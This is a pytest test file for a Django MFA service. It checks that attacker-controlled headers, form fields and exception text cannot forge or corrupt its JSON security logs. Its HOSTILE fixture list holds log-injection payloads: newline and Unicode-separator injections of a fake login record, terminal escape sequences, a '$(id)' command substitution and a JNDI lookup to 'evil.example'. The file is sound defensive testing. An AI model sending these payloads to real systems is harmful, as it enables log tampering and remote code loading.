"""Nobody outside can write a line of the log (security, notifications and logs; ASVS 16.4.1)."""

import json
import logging
from urllib.parse import urlencode

import pytest
from django.test import Client

from mfa.logs import JsonFormatter
from mfa.models import Event
from tests import loglines
from tests.cast import ApiClient

pytestmark = pytest.mark.usefixtures("clock")

FORGED = '{"event": "login", "outcome": "accepted", "account": 1}'
SEPARATORS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]
HOSTILE = [
    *(f"harmless{separator}{FORGED}{separator}" for separator in SEPARATORS),
    f'"}}\n{FORGED}',
    f"\x1b[2K\x1b[1A{FORGED}",
    f"\x00\x07\x08\x7f\x9b31m{FORGED}",
    "\u202e\u2066tpecca",
    "\ud800\udc80",
    "%s %(event)s {event} $(id) ${jndi:ldap://evil.example}",
]


def assert_unforged(raw):
    """Each line is one object, in printable ASCII, and none of them is the forger's."""
    text = raw.getvalue()
    lines = [json.loads(line) for line in text.splitlines()]
    assert lines
    assert all(character == "\n" or " " <= character <= "~" for character in text)
    assert not [line for line in lines if line.get("event") == "login"]


def ids(text):
    return repr(text)[:24]


@pytest.mark.parametrize("text", HOSTILE, ids=ids)
def test_not_by_a_browsers_name(customer, raw_log, text):
    Client(HTTP_USER_AGENT=text).post("/login", {"email": customer.email, "password": "wrong"})

    assert_unforged(raw_log)
    assert Event.objects.get().user_agent.isprintable()


@pytest.mark.parametrize("text", HOSTILE, ids=ids)
def test_not_by_an_address(customer, raw_log, text):
    credentials = {"username": f"{text}@example.com", "password": "wrong"}
    form = urlencode({"email": f"{text}@example.com", "password": "wrong"}, errors="surrogatepass")
    Client().post("/login", form, content_type="application/x-www-form-urlencoded")
    ApiClient().ask("post", "access-tokens", attributes=credentials)

    assert_unforged(raw_log)


@pytest.mark.parametrize("text", [*HOSTILE, "x" * 65, "short", "", f"{'x' * 20}\n", "١٢٣٤٥٦٧٨٩"], ids=ids)
def test_not_by_a_requests_id(customer, raw_log, text):
    Client(HTTP_X_REQUEST_ID=text).post("/login", {"email": customer.email, "password": "wrong"})

    assert_unforged(raw_log)
    given = Event.objects.get().request_id
    assert given.isascii()
    assert given.isalnum()
    assert len(given) == 32


@pytest.mark.parametrize("text", HOSTILE, ids=ids)
def test_not_by_what_is_called_a_proxy(customer, raw_log, text):
    Client(HTTP_X_FORWARDED_FOR=text, REMOTE_ADDR="192.0.2.7").post(
        "/login", {"email": "x@example.com", "password": "wrong"}
    )

    assert_unforged(raw_log)
    assert Event.objects.get().ip == "192.0.2.7"


@pytest.mark.parametrize("text", HOSTILE, ids=ids)
@pytest.mark.parametrize("logger", ["mfa.web", "django.request", "celery.worker", "elsewhere"])
def test_not_by_anything_else_that_is_logged(raw_log, logger, text):
    """Whatever a library puts into message, fields or an exception's text."""
    with loglines.unseen_by_pytest():
        try:
            raise ValueError(text)
        except ValueError:
            logging.getLogger(logger).exception("%s", text, extra={"path": text, "odd": {text: [text]}})

    assert_unforged(raw_log)
    assert len(raw_log.getvalue().splitlines()) == 1


def test_no_field_from_outside_takes_the_place_of_one_of_ours(raw_log):
    logging.getLogger("mfa.web").error("x", extra={"at": "1970", "level": "info", "logger": "mfa.events"})

    [line] = [json.loads(line) for line in raw_log.getvalue().splitlines()]
    assert (line["level"], line["logger"]) == ("error", "mfa.web")
    assert not line["at"].startswith("1970")


def break_down(*secret):
    raise RuntimeError(len(secret))


def test_an_exception_is_logged_without_what_its_variables_held(raw_log):
    secret = "hunter-2"
    try:
        break_down(*secret)
    except RuntimeError:
        logging.getLogger("mfa.web").exception("broken")

    [line] = [json.loads(line) for line in raw_log.getvalue().splitlines()]
    assert "RuntimeError: 8" in line["exception"]
    assert secret not in line["exception"]


def test_every_handler_of_the_product_writes_json(settings):
    assert {handler["formatter"] for handler in settings.LOGGING["handlers"].values()} == {"json"}
    assert settings.LOGGING["formatters"]["json"]["()"] == f"{JsonFormatter.__module__}.{JsonFormatter.__qualname__}"
